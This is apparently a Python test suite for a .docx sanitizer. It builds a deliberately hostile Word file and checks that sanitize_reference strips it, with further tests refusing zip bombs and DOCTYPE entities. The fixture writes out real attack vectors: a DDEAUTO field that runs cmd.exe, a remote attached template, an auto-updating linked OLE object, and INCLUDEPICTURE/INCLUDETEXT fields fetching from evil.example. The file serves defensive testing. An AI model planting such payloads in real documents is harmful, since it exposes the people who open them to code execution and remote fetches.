"""Reference documents: a hostile .docx (remote header picture, linked OLE object that updates
on open, remote template, macros, ActiveX, fetching fields, data bindings, zip bombs) comes out
of :func:`briefgen.refdoc.sanitize_reference` with only styles, numbering, page set-up,
header/footer text and embedded pictures, checked with zipfile + lxml, and still opens in
python-docx."""

from __future__ import annotations

import io
import re
import time
import zipfile

import docx
import pytest
from lxml import etree

from briefgen.errors import BriefError
from briefgen.refdoc import MAX_PARTS, load_reference, sanitize_reference
from test_docx_reference import HEADER_TEXT, LOGO, _rezip, make_reference

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
NS = (f'xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
      'xmlns:v="urn:schemas-microsoft-com:vml"')
EVIL = "evil.example"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _rel(rid: str, kind: str, target: str, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'.encode()


def _add_rels(blob: bytes, *rels: bytes) -> bytes:
    return blob.replace(b"</Relationships>", b"".join(rels) + b"</Relationships>")


HOSTILE_HEADER_RUNS = (
    # a linked OLE object that Word updates on open (the remote-template exploit class)
    '<w:r><w:object><v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:1pt;height:1pt">'
    '<v:imagedata r:id="rIdOleImg" o:title=""/></v:shape>'
    '<o:OLEObject Type="Link" ProgID="Word.Document.12" ShapeID="_x0000_i1025" '
    'DrawAspect="Content" r:id="rIdOle" UpdateMode="Always"><o:LinkType>EnhancedMetaFile'
    '</o:LinkType></o:OLEObject></w:object></w:r>'
    # fetching fields: complex INCLUDEPICTURE, simple INCLUDETEXT and DDEAUTO
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    f'<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://{EVIL}/p.png" \\d '
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>CACHED RESULT</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    f'<w:fldSimple w:instr=" INCLUDETEXT &quot;http://{EVIL}/t.docx&quot; "><w:r><w:t>'
    'SIMPLE RESULT</w:t></w:r></w:fldSimple>'
    f'<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;">'
    '<w:r><w:t>DDE</w:t></w:r></w:fldSimple>'
    # a harmless field stays
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    # an ActiveX control, a hyperlink to elsewhere (its text stays), a VML linked picture
    '<w:r><w:object><w:control r:id="rIdAx" w:name="Ctl"/></w:object></w:r>'
    f'<w:hyperlink r:id="rIdLink"><w:r><w:t>LINK TEXT</w:t></w:r></w:hyperlink>'
    f'<w:r><w:pict><v:shape><v:imagedata o:href="http://{EVIL}/vml.png"/></v:shape></w:pict>'
    '</w:r>'
)


def hostile_reference() -> bytes:
    base = make_reference()

    def edit(name: str, blob: bytes) -> bytes:
        if re.fullmatch(r"word/header\d*\.xml", name) and b"<pic:pic" in blob:
            text = blob.decode()
            # the logo's picture also linked to a remote copy (Word fetches the link)
            text = text.replace("<a:blip r:embed=", '<a:blip r:link="rIdRemote" r:embed=', 1)
            # a second picture linked only
            text = text.replace("</w:p>", HOSTILE_HEADER_RUNS + "</w:p>", 1)
            if 'xmlns:o="' not in text:
                text = text.replace("<w:hdr ", '<w:hdr xmlns:o="urn:schemas-microsoft-com:office'
                                    ':office" xmlns:v="urn:schemas-microsoft-com:vml" ', 1)
            return text.encode()
        if re.fullmatch(r"word/_rels/header\d*\.xml\.rels", name) and b"image" in blob:
            return _add_rels(blob, _rel("rIdRemote", RT + "image", f"http://{EVIL}/logo.png"),
                             _rel("rIdOle", RT + "oleObject", f"http://{EVIL}/ole.docx"),
                             _rel("rIdOleImg", RT + "image", f"http://{EVIL}/ole.emf"),
                             _rel("rIdAx", RT + "control", "activeX/activeX1.xml", False),
                             _rel("rIdLink", RT + "hyperlink", f"https://{EVIL}/"))
        if name == "word/settings.xml":
            return blob.replace(b"</w:settings>",
                                b'<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/>'
                                b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                                b'<w:dataSource r:id="rIdDs"/></w:mailMerge></w:settings>')
        if name == "word/_rels/settings.xml.rels" or (name == "word/_rels/document.xml.rels"):
            extra = [_rel("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/"
                          "vbaProject", "vbaProject.bin", False),
                     _rel("rIdCx", RT + "customXml", "../customXml/item9.xml", False),
                     _rel("rIdChunk", RT + "aFChunk", f"http://{EVIL}/chunk.htm"),
                     _rel("rIdEmb", RT + "package", "embeddings/pkg.docx", False)] \
                if name.endswith("document.xml.rels") else []
            return _add_rels(blob, *extra)
        if name == "word/document.xml":
            return blob.replace(b"<w:body>", (
                b'<w:body><w:altChunk r:id="rIdChunk"/><w:sdt><w:sdtPr><w:dataBinding '
                b'w:xpath="/root/x" w:storeItemID="{00000000-0000-0000-0000-000000000001}"/>'
                b'</w:sdtPr><w:sdtContent><w:p><w:r><w:t>BOUND</w:t></w:r></w:p></w:sdtContent>'
                b'</w:sdt>'))
        if name == "[Content_Types].xml":
            return blob.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                                b'vnd.ms-office.vbaProject"/><Default Extension="docx" '
                                b'ContentType="application/vnd.openxmlformats-officedocument.'
                                b'wordprocessingml.document"/></Types>')
        return blob

    data = _rezip(base, edit)
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as z:
        z.writestr("word/vbaProject.bin", b"MACROS" * 100)
        z.writestr("word/activeX/activeX1.xml", b'<ax:ocx xmlns:ax="http://schemas.microsoft.'
                                                b'com/office/2006/activeX" ax:classid="{X}"/>')
        z.writestr("customXml/item9.xml", f"<root><x>http://{EVIL}/</x></root>")
        z.writestr("word/embeddings/pkg.docx", b"PK\x03\x04 embedded")
        if "word/_rels/settings.xml.rels" not in z.namelist():
            z.writestr("word/_rels/settings.xml.rels", (
                f'<?xml version="1.0"?><Relationships xmlns="{PR}">'
                + _rel("rIdTpl", RT + "attachedTemplate", f"http://{EVIL}/t.dotm").decode()
                + _rel("rIdDs", RT + "mailMergeSource", f"file://{EVIL}/share/x.xlsx").decode()
                + "</Relationships>"))
    return out.getvalue()


# --------------------------------------------------------------------------------------------
# The independent reader


def parts(data: bytes) -> dict[str, bytes]:
    z = zipfile.ZipFile(io.BytesIO(data))
    return {n: z.read(n) for n in z.namelist()}


def xml_parts(data: bytes) -> dict[str, etree._Element]:
    return {n: etree.fromstring(b) for n, b in parts(data).items()
            if n.endswith((".xml", ".rels"))}


@pytest.fixture(scope="module")
def hostile() -> bytes:
    return hostile_reference()


@pytest.fixture(scope="module")
def clean(hostile: bytes) -> bytes:
    return sanitize_reference(hostile, name="org.docx")


def test_hostile_fixture_really_is_hostile(hostile: bytes):
    p = parts(hostile)
    everything = b"".join(p.values())
    assert b'TargetMode="External"' in everything and b"UpdateMode=\"Always\"" in everything
    assert "word/vbaProject.bin" in p and b"INCLUDEPICTURE" in everything
    docx.Document(io.BytesIO(hostile))  # python-docx opens it as it is


def test_no_external_relationship_survives(clean: bytes):
    for name, root in xml_parts(clean).items():
        if name.endswith(".rels"):
            for rel in root:
                assert rel.get("TargetMode", "Internal") != "External", (name, rel.attrib)
                assert EVIL not in rel.get("Target", "")
    assert EVIL.encode() not in b"".join(parts(clean).values())


def test_no_active_content_survives(clean: bytes):
    p = parts(clean)
    assert not [n for n in p if re.search(r"vba|activeX|embeddings|customXml|oleObject", n,
                                          re.IGNORECASE)], list(p)
    banned = {f"{{{W}}}object", f"{{{W}}}control", f"{{{W}}}altChunk", f"{{{W}}}dataBinding",
              "{urn:schemas-microsoft-com:office:office}OLEObject", f"{{{W}}}attachedTemplate",
              f"{{{W}}}linkStyles", f"{{{W}}}mailMerge"}
    for name, root in xml_parts(clean).items():
        for el in root.iter():
            assert el.tag not in banned, (name, el.tag)
            for attr in el.attrib:
                assert not (attr.endswith("}link") or attr.endswith("}href")), (name, attr)
        text = etree.tostring(root).decode()
        for field in ("INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "LINK Word"):
            assert field not in text, (name, field)
    types = p["[Content_Types].xml"].decode()
    assert "vbaProject" not in types and "macroEnabled" not in types


def test_what_the_pack_needs_is_kept(hostile: bytes, clean: bytes):
    before, after = parts(hostile), parts(clean)
    for name in ("word/styles.xml", "word/numbering.xml", "word/theme/theme1.xml"):
        if name in before:
            assert etree.tostring(etree.fromstring(before[name]), method="c14n") == \
                etree.tostring(etree.fromstring(after[name]), method="c14n"), name
    assert LOGO in after.values()  # the embedded header picture
    d = docx.Document(io.BytesIO(clean))
    sec = d.sections[0]
    assert (sec.page_width, sec.page_height) == (docx.shared.Inches(11), docx.shared.Inches(8.5))
    header = "".join(p.text for p in sec.header.paragraphs)
    assert HEADER_TEXT in header
    assert "CACHED RESULT" in header and "SIMPLE RESULT" in header  # results kept as text
    assert "LINK TEXT" in header and "1" in header
    assert "Reference footer text" in "".join(p.text for p in sec.footer.paragraphs)
    blips = list(etree.fromstring(after[sec.header.part.partname.lstrip("/")]).iter(
        "{http://schemas.openxmlformats.org/drawingml/2006/main}blip"))
    assert len(blips) == 1 and blips[0].get(f"{{{R}}}embed")
    assert d.styles["Heading 1"].font.size == docx.shared.Pt(20)


def test_sanitizing_is_stable(clean: bytes):
    again = sanitize_reference(clean, name="org.docx")
    assert parts(again) == parts(clean)


def test_benign_references_open_after_sanitizing():
    for kw in ({}, {"dotx": True}, {"odd_even": True}, {"macros": True},
               {"heading_id": "berschrift1"}):
        out = sanitize_reference(make_reference(**kw), name="r.docx")
        assert not [n for n in parts(out) if "vba" in n.lower()]
        from briefgen.render.docx import reference as ox

        docx.Document(io.BytesIO(ox.as_document_package(out))).sections[0]


def test_pack_built_on_a_sanitized_reference_carries_nothing_remote(tmp_path, clean: bytes):
    import briefgen
    from conftest import SAMPLE

    ref = tmp_path / "clean.docx"
    ref.write_bytes(clean)
    data = briefgen.build(SAMPLE, formats="docx", reference_doc=ref).docx
    assert data is not None
    p = parts(data)
    assert EVIL.encode() not in b"".join(p.values())
    for name, root in xml_parts(data).items():
        if name.endswith(".rels"):
            assert all(r.get("TargetMode") != "External" or "hyperlink" in r.get("Type", "")
                       for r in root), name


# --------------------------------------------------------------------------------------------
# Bombs and bad files


def _zip(entries: dict[str, bytes], level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for n, b in entries.items():
            z.writestr(n, b)
    return out.getvalue()


def _refused(data: bytes, needle: str) -> None:
    t0 = time.monotonic()
    with pytest.raises(BriefError) as exc:
        sanitize_reference(data, name="bomb.docx")
    assert time.monotonic() - t0 < 5
    [diag] = exc.value.diagnostics
    assert diag.file == "bomb.docx" and diag.path == "reference_docx"
    assert needle in diag.message, diag.message


def test_zip_bomb_is_refused_from_the_directory():
    base = parts(make_reference())
    base["word/styles.xml"] = b"<a>" + b" " * (200 * 1024 * 1024) + b"</a>"
    data = _zip(base)
    assert len(data) < 2_000_000
    _refused(data, "bytes when unpacked")


def test_zip_bomb_of_many_parts_is_refused():
    base = parts(make_reference())
    for i in range(MAX_PARTS + 1):
        base[f"word/media/x{i}.png"] = b""
    _refused(_zip(base), "parts")


def test_zip_bomb_that_lies_in_its_directory_is_refused():
    base = parts(make_reference())
    big = b"<a>" + b" " * (5 * 1024 * 1024) + b"</a>"
    base["word/styles.xml"] = big
    data = bytearray(_zip(base))
    # declare 1 KB for styles.xml in the local header and the central directory
    needle = b"word/styles.xml"
    for m in re.finditer(re.escape(needle), bytes(data)):
        start = m.start()
        if data[start - 30:start - 26] == b"PK\x03\x04":
            data[start - 30 + 22:start - 30 + 26] = (1024).to_bytes(4, "little")
        elif data[start - 46:start - 42] == b"PK\x01\x02":
            data[start - 46 + 24:start - 46 + 28] = (1024).to_bytes(4, "little")
    _refused(bytes(data), "")


def test_total_size_is_bounded():
    base = parts(make_reference())
    for i in range(5):
        base[f"word/media/big{i}.png"] = b"\0" * (20 * 1024 * 1024)
    _refused(_zip(base), "unpacks to")


@pytest.mark.parametrize("data, needle", [
    (b"not a zip at all", "could not be read"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "older Word"),
    (_zip({"a.txt": b"x"}), "not a Word document"),
    (make_reference()[:3000], "could not be read"),
    (_zip({"[Content_Types].xml": b"<Types/>", "_rels/.rels":
           b'<!DOCTYPE x [<!ENTITY a "aaaa">]><Relationships/>'}), "DOCTYPE"),
])
def test_bad_files_are_refused_with_the_file_named(data: bytes, needle: str):
    _refused(data, needle)


def test_load_reference_refuses_a_fifo_and_a_huge_file(tmp_path):
    import os

    fifo = tmp_path / "r.docx"
    os.mkfifo(fifo)
    with pytest.raises(BriefError, match="not a regular file"):
        load_reference(fifo)
    big = tmp_path / "big.docx"
    with open(big, "wb") as f:
        f.truncate(30 * 1024 * 1024)
    with pytest.raises(BriefError, match="the limit is"):
        load_reference(big)
